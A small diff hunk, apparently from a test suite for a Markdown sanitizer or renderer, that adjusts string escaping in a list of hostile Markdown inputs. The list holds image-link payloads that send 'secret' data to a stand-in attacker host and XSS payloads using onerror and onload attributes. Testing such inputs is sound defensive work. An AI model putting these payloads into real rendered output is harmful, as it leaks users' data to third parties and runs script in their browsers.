@@ -68,7 +68,7 @@ const MARKDOWN = [
   `![x][ref]\n\n[ref]: ${EVIL}/pixel.png?d=secret`,
   `![][ref]\n\n[ref]: <${EVIL}/p?d=secret> "title"`,
   `[![x](${EVIL}/a.png)](${EVIL}/b)`,
-  `![x](${EVIL}/p "t\" onerror=\"${RUN}")`,
+  `![x](${EVIL}/p "t\\" onerror=\\"${RUN}")`,
   `![x" onerror="${RUN}](${EVIL}/p)`,
   `![x](data:image/svg+xml,<svg onload=${RUN}>)`,
   `![x](//evil.invalid/p)`,
